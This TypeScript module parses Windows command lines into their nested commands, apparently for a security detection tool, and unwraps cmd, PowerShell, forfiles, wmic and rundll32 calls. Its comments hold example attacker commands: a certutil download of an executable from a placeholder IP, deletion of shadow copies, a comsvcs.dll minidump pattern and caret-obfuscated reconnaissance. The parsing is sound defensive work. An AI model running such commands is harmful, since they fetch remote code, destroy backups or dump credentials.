import { cmdCommands, cmdLine } from './cmd-lines.ts'
import { powershellOptions } from './powershell.ts'
import { powershellCommands } from './powershell-code.ts'
import { quotedForWindows, windowsWords } from './windows-arguments.ts'
import { windowsBaseName } from './windows-paths.ts'

/** One command of a Windows command line. */
export interface WindowsCommand {
  /** Name of the program in lower case, without folder, `.exe` and `.com`; cmdlets by their full name. */
  readonly program: string
  /** The program as written. */
  readonly path: string
  readonly args: readonly string[]
  /** True when it reads what another command writes. */
  readonly piped: boolean
  /** The command that runs it: `cmd`, `powershell`, `forfiles`, …; null for the line's own program. */
  readonly within: WindowsCommand | null
}

/** Code within code is followed to this depth. */
const DEPTH_MAX = 6

/**
 * Code within a line is about as long as the line at each depth. This many characters, and this many times the line's
 * length, are read, so that the work grows with the line whatever it holds.
 */
const TEXT_MIN = 4096
const TEXT_PER_LINE = 4

interface Line {
  readonly text: string
  readonly piped: boolean
  readonly within: WindowsCommand | null
}

/** The last line asked about: several helpers and rules ask about one column in turn. */
let last: { readonly line: string; readonly commands: readonly WindowsCommand[] } = { line: '', commands: [] }

/**
 * Every command of a Windows command line: the program itself, what `cmd /c` runs (carets, `&`, pipes, `start`, `call`),
 * what PowerShell runs (`-Command`, and `-EncodedCommand` decoded), and what `forfiles`, `wmic process call create`,
 * `conhost`, `pcalua` and `runas` start. Nothing is expanded. Never throws; linear.
 *
 * @example windowsCommandsOf('C:\\Windows\\system32\\cmd.exe /c "n^et user & whoami"').map(({ program }) => program)
 *   // ['cmd', 'net', 'whoami']
 */
export function windowsCommandsOf(line: string): readonly WindowsCommand[] {
  if (last.line !== line) last = { line, commands: Object.freeze(parsed(line)) }
  return last.commands
}

/**
 * Whether the line runs one of the programs, named in lower case without folder and `.exe`.
 *
 * @example windowsRuns('cmd /c certutil -urlcache -f http://192.0.2.1/a a.exe', 'certutil') // true
 */
export function windowsRuns(line: string, ...programs: readonly string[]): boolean {
  return windowsCommandsOf(line).some(({ program }) => programs.includes(program))
}

/**
 * Whether a command has a switch: `/name` or `-name` in any case, alone or with `:value` or `=value`.
 *
 * @param least  how many characters of the name suffice; default all of them
 * @example windowsCommandsOf('wmic SHADOWCOPY delete /NoInteractive').some(command => hasSwitch(command, 'nointeractive')) // true
 */
export function hasSwitch({ args }: WindowsCommand, name: string, least: number = name.length): boolean {
  return args.some(word => {
    if (!/^[-/\u2013\u2014\u2015]/.test(word)) return false
    const given = /^[^:=]{0,64}/.exec(word.slice(word.startsWith('--') ? 2 : 1).toLowerCase())?.[0] ?? ''
    return given.length >= least && name.startsWith(given)
  })
}

/**
 * What rundll32 loads and calls: `{ library: 'comsvcs.dll', entry: 'minidump' }`, in lower case, an ordinal as `#24`. Null
 * for other programs and when it is given nothing.
 */
export function rundll32Call({ program, args }: WindowsCommand): {
  readonly library: string
  readonly entry: string
} | null {
  const [target, next = ''] = args
  if (program !== 'rundll32' || target === undefined) return null
  const comma = target.indexOf(',')
  const library = comma === -1 ? target : target.slice(0, comma)
  // `a.dll,Entry`, `a.dll, Entry` and `a.dll Entry` all work.
  const entry = comma === -1 || comma === target.length - 1 ? next.replace(/^,/, '') : target.slice(comma + 1)
  return { library: windowsBaseName(library), entry: entry.toLowerCase() }
}

function parsed(line: string): WindowsCommand[] {
  const commands: WindowsCommand[] = []
  let lines: readonly Line[] = [{ text: line, piped: false, within: null }]
  let left = TEXT_MIN + TEXT_PER_LINE * line.length
  for (let depth = 0; depth < DEPTH_MAX && lines.length > 0; depth++) {
    const inner: Line[] = []
    for (const { text, piped, within } of lines) {
      left -= text.length
      const { path, args, rest } = windowsWords(text)
      if (path === '' || left < 0) continue
      const command: WindowsCommand = { program: programName(path), path, args, piped, within }
      commands.push(command)
      for (const nested of nestedLines(command, rest)) inner.push(nested)
    }
    lines = inner
  }
  return commands
}

function programName(path: string): string {
  const name = windowsBaseName(path)
  // The variable that names the command interpreter.
  return name === '%comspec%' ? 'cmd' : name.replace(/\.(?:exe|com)$/, '')
}

function nestedLines(within: WindowsCommand, rest: string): readonly Line[] {
  const { program, args } = within
  if (program === 'cmd') {
    const line = cmdLine(rest)
    return line === null ? [] : cmdCommands(line).map(({ text, piped }) => ({ text, piped, within }))
  }
  if (program === 'powershell' || program === 'pwsh') {
    const { code } = powershellOptions(args)
    return code === null ? [] : powershellCommands(code).map(command => powershellLine(command, within))
  }
  const started = startedLine(program, args)
  return started === null ? [] : [{ text: started, piped: false, within }]
}

function powershellLine(
  { name, args, piped }: { readonly name: string; readonly args: readonly string[]; readonly piped: boolean },
  within: WindowsCommand,
): Line {
  return { text: [name, ...args].map(quotedForWindows).join(' '), piped, within }
}

/** The command line that a program other than a shell starts, or null. */
function startedLine(program: string, args: readonly string[]): string | null {
  const following = (name: string) => {
    const at = args.findIndex(word => word.toLowerCase() === name)
    return at === -1 ? null : (args[at + 1] ?? null)
  }
  switch (program) {
    case 'forfiles':
      return following('/c')
    case 'wmic':
      return following('call') === null ? null : following('create')
    case 'pcalua':
      return following('-a')
    case 'runas':
      return args.find(word => !word.startsWith('/')) ?? null
    case 'conhost': {
      // `conhost --headless program`; console hosts that Windows starts itself have handles: `0xffffffff -ForceV1`.
      const at = args.findIndex(word => !word.startsWith('-') && !/^0x/i.test(word))
      return at === -1 ? null : args.slice(at).map(quotedForWindows).join(' ')
    }
    default:
      return null
  }
}
